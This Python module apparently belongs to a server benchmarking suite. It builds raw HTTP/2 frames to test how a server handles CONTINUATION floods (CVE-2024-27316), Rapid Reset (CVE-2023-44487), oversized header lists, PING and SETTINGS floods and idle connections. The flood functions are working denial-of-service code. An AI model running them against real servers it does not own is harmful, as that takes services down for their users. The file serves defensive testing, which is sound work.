"""The HTTP/2 probes of bench/probes.py: raw frames over a socket (client
libraries refuse to send floods), headers encoded by hpack from the h2
package."""

from __future__ import annotations

import select
import threading
import time
from collections.abc import Callable, Iterable
from dataclasses import dataclass, field

import hpack
from probes_h1 import ANSWER_TIMEOUT, connect, held_for, shut

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, CONTINUATION = 0, 1, 3, 4, 6, 7, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
ERRORS = (
    "NO_ERROR PROTOCOL_ERROR INTERNAL_ERROR FLOW_CONTROL_ERROR SETTINGS_TIMEOUT STREAM_CLOSED "
    "FRAME_SIZE_ERROR REFUSED_STREAM CANCEL COMPRESSION_ERROR CONNECT_ERROR ENHANCE_YOUR_CALM "
    "INADEQUATE_SECURITY HTTP_1_1_REQUIRED"
).split()
GET = [(":method", "GET"), (":scheme", "http"), (":authority", "probe"), (":path", "/")]


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return (
        len(payload).to_bytes(3, "big") + bytes([kind, flags]) + stream.to_bytes(4, "big") + payload
    )


def literal(name: bytes, value: bytes) -> bytes:
    """An hpack literal field, never indexed, so that every copy costs the
    server its full size."""
    return b"\x10" + hpack_int(len(name)) + name + hpack_int(len(value)) + value


def hpack_int(n: int) -> bytes:
    # 7-bit prefix, no Huffman (RFC 7541, 5.1).
    if n < 127:
        return bytes([n])
    out, n = [127], n - 127
    while n >= 128:
        out.append(n % 128 + 128)
        n //= 128
    return bytes([*out, n])


@dataclass
class H2Result:
    not_h2: str = ""  # what an HTTP/1-only server said to the preface
    goaway: str = ""
    statuses: list[str] = field(default_factory=list)
    resets: int = 0
    acks: dict[int, int] = field(default_factory=dict)
    end: str = "timeout"


def h2_exchange(
    port: int, frames: Iterable[bytes], timeout: float = ANSWER_TIMEOUT, read_after: float = 0.0
) -> H2Result:
    """Sends the preface, then `frames` from a thread, and reads frames
    until the server closes or goes quiet. With `read_after`, reading
    starts only that long after sending began: a flood whose answers the
    client never reads, as an attacker would."""
    result, decoder = H2Result(), hpack.Decoder()
    decoder.max_allowed_table_size = 1 << 16
    sock = connect(port)
    sent = threading.Event()

    def sender():
        try:
            sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
            for f in frames:
                sock.sendall(f)
        except OSError:
            pass
        sent.set()

    threading.Thread(target=sender, daemon=True).start()
    sent.wait(read_after)
    buf, start = b"", time.monotonic()
    deadline, quiet = start + timeout, 1.5
    try:
        while True:
            left = min(deadline, time.monotonic() + quiet) - time.monotonic()
            if left <= 0 or not select.select([sock], [], [], left)[0]:
                if not sent.is_set() and time.monotonic() < deadline:
                    continue
                break
            chunk = sock.recv(1 << 20)
            if not chunk:
                result.end = "eof"
                break
            buf += chunk
            if buf.startswith(b"HTTP/"):
                result.not_h2 = buf[9:12].decode()
                continue
            while len(buf) >= 9 and len(buf) >= 9 + int.from_bytes(buf[:3], "big"):
                size, kind, flags = int.from_bytes(buf[:3], "big"), buf[3], buf[4]
                payload, buf = buf[9 : 9 + size], buf[9 + size :]
                if kind == GOAWAY and not result.goaway:
                    code = int.from_bytes(payload[4:8], "big")
                    result.goaway = ERRORS[code] if code < len(ERRORS) else hex(code)
                elif kind == RST_STREAM:
                    result.resets += 1
                elif kind == HEADERS:
                    fields = dict(decoder.decode(payload))
                    result.statuses.append(fields.get(":status", "?"))
                elif kind in (PING, SETTINGS) and flags & ACK:
                    result.acks[kind] = result.acks.get(kind, 0) + 1
    except ConnectionResetError:
        result.end = "reset"
    finally:
        shut(sock)
    return result


def h2_describe(r: H2Result, sent: int = 0, kind: int = 0) -> str:
    if r.not_h2:
        return f"no HTTP/2 ({r.not_h2})"
    parts = []
    if kind:
        # The ACK to the client's first SETTINGS is not part of the flood.
        acked = r.acks.get(kind, 0) - (kind == SETTINGS)
        parts.append(f"{acked} of {sent} ACKed")
    if r.statuses:
        counts = {s: r.statuses.count(s) for s in sorted(set(r.statuses))}
        parts.append(", ".join(f"{n}× {s}" if n > 1 else s for s, n in counts.items()))
    if r.resets:
        parts.append(f"{r.resets} RST_STREAM")
    if r.goaway:
        parts.append(f"GOAWAY {r.goaway}")
    if r.end != "timeout":
        parts.append({"eof": "closed", "reset": "reset"}[r.end])
    return ", ".join(parts) or "hung"


def request_block(extra: bytes = b"") -> bytes:
    return hpack.Encoder().encode(GET) + extra


def continuation_flood(port: int) -> str:
    """HEADERS without END_HEADERS, then CONTINUATION frames that never end
    the header block (CVE-2024-27316 and its kin)."""
    count = 20_000

    def frames():
        yield frame(HEADERS, END_STREAM, 1, request_block())
        for i in range(count):
            yield frame(CONTINUATION, 0, 1, literal(b"x-c%d" % i, b"a" * 1000))

    return h2_describe(h2_exchange(port, frames()))


def oversize_header_list(port: int) -> str:
    """One complete request whose header list is 256 KiB (64 fields of
    4 KiB), within the frame size rules."""
    block = request_block(b"".join(literal(b"x-h%d" % i, b"a" * 4096) for i in range(64)))
    pieces = [block[i : i + 16384] for i in range(0, len(block), 16384)]
    frames = [frame(HEADERS, END_STREAM, 1, pieces[0])]
    frames += [frame(CONTINUATION, 0, 1, p) for p in pieces[1:-1]]
    frames.append(frame(CONTINUATION, END_HEADERS, 1, pieces[-1]))
    return h2_describe(h2_exchange(port, frames))


def rapid_reset(port: int) -> str:
    """Streams opened and cancelled at once (CVE-2023-44487)."""
    count, block = 5000, request_block()
    frames = (
        frame(HEADERS, END_STREAM | END_HEADERS, s, block)
        + frame(RST_STREAM, 0, s, (8).to_bytes(4, "big"))
        for s in range(1, 2 * count, 2)
    )
    return h2_describe(h2_exchange(port, frames))


# A PING's opaque data, and a SETTINGS frame that restates a default
# (INITIAL_WINDOW_SIZE 65535): both cost the server only its answer.
FLOOD_PAYLOADS = {PING: b"\0" * 8, SETTINGS: b"\x00\x04\x00\x00\xff\xff"}


def flood(kind: int, count: int) -> Callable[[int], str]:
    def probe(port: int) -> str:
        frames = (frame(kind, 0, 0, FLOOD_PAYLOADS[kind]) for _ in range(count))
        return h2_describe(h2_exchange(port, frames, read_after=5.0), count, kind)

    return probe


def idle_h2(port: int) -> str:
    sock = connect(port)
    try:
        sock.sendall(PREFACE + frame(SETTINGS, 0, 0))
        time.sleep(0.5)
        first = sock.recv(65536)
        if first.startswith(b"HTTP/") or not first:
            return f"no HTTP/2 ({first[9:12].decode() or 'closed'})"
        sock.sendall(frame(SETTINGS, ACK, 0))
        return held_for(sock, time.monotonic())
    finally:
        shut(sock)
